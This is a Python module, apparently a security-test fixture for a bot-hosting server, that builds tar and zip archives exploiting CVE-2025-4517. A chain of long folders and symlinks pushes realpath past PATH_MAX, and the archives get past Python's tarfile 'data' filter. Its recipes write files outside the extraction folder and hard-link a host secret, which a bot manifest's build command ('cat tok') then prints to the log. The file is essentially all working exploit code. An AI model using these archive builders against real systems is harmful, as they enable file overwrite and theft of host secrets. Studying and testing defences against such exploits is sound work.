"""CVE-2025-4517, built as a hostile author would: a chain of links that takes Python's
``os.path.realpath`` past PATH_MAX, where it stops resolving while the kernel keeps following.

Sixteen folders with 247-character names are reached through one-letter links (``a`` -> the
first folder, ``a/b`` -> the second inside it, ...), so the short name ``a/b/.../p`` is, for the
kernel, a real path of ~3,970 characters. One more link ``a/b/.../p/LLL...`` (254 characters) points
back up sixteen levels, to the folder being filled. A last link, ``escape``, goes through it:
``a/b/.../p/LLL.../..`` (17 times) ``/TARGET``. ``realpath`` cannot look at ``LLL...`` (its full path
is longer than PATH_MAX), takes it for a folder, and works out a path inside; the kernel follows it
and climbs out to ``/TARGET``. Every member passes the extraction ``data`` filter of Python 3.11.4
to 3.11.12 and 3.12.0 to 3.12.10, and the server's own name checks (no name over 300 characters,
none deeper than 17 folders). Needs the folder being filled to have a path under ~120 characters.

Sources: CPython's advisory (python/cpython#135034) and the CVE's description.
"""

from __future__ import annotations

import io
import stat
import tarfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

STEPS = "abcdefghijklmnop"
LONG = "d" * 247
BACK = "l" * 254


@dataclass(frozen=True)
class Member:
    name: str
    kind: str
    """"dir", "link" (symbolic), "hard" (hard link) or "file"."""
    target: str = ""
    """A link's target; a file's content."""


def chain_to(target: Path, back: int = len(BACK)) -> list[Member]:
    """The members that make ``escape`` a link to the absolute folder ``target``. ``back``: the
    length of the link that points back up; shorter, the chain still fits under PATH_MAX where
    the folder is short (a build's ``/bot``) and only goes past it where the folder is longer."""
    members: list[Member] = []
    shortcut = ""
    for step in STEPS:
        members.append(Member(f"{shortcut}{LONG}", "dir"))
        members.append(Member(f"{shortcut}{step}", "link", LONG))
        shortcut += step + "/"
    members.append(Member(shortcut + BACK[:back], "link", "../" * len(STEPS)))
    climb = "/.." * (len(STEPS) + 1)
    members.append(Member("escape", "link", f"{shortcut}{BACK[:back]}{climb}{target}"))
    return members


def write_outside(outside: Path, name: str, text: str) -> list[Member]:
    """Recipe (a) and (c): a file ``name`` written into the host folder ``outside``."""
    return [*chain_to(outside), Member(f"escape/{name}", "file", text), *bot_files()]


def hard_link_to(secret: Path) -> list[Member]:
    """Recipe (b): ``tok``, a hard link to the host file ``secret``, which the bot then reads."""
    return [*chain_to(secret.parent), Member("tok", "hard", f"escape/{secret.name}"), *bot_files()]


def bot_files() -> list[Member]:
    """What makes the rest an ordinary bot: its build prints ``tok`` (whatever it is) to its log."""
    manifest = 'run = "./bot"\nbuild = "cat tok 2>&1 || true; printf \'#!/bin/sh\\n\' > bot; chmod +x bot"\n'
    return [Member("kingmaker.toml", "file", manifest)]


def as_tar(members: list[Member], path: Path) -> Path:
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as archive:
        for member in members:
            info = tarfile.TarInfo(member.name)
            data = None
            if member.kind == "dir":
                info.type, info.mode = tarfile.DIRTYPE, 0o755
            elif member.kind in ("link", "hard"):
                info.type = tarfile.SYMTYPE if member.kind == "link" else tarfile.LNKTYPE
                info.linkname = member.target
            else:
                data = member.target.encode()
                info.size, info.mode = len(data), 0o644
            archive.addfile(info, io.BytesIO(data) if data is not None else None)
    return path


def as_zip(members: list[Member], path: Path) -> Path:
    """The same chain in a zip: a link is a member whose Unix mode says so and whose content is
    its target (a zip has no hard links: those members are left out)."""
    with zipfile.ZipFile(path, "w") as archive:
        for member in members:
            if member.kind == "hard":
                continue
            if member.kind == "dir":
                info = zipfile.ZipInfo(member.name + "/")
                info.external_attr = (stat.S_IFDIR | 0o755) << 16
                archive.writestr(info, b"")
                continue
            info = zipfile.ZipInfo(member.name)
            mode = stat.S_IFLNK | 0o777 if member.kind == "link" else stat.S_IFREG | 0o644
            info.external_attr = mode << 16
            archive.writestr(info, member.target.encode())
    return path
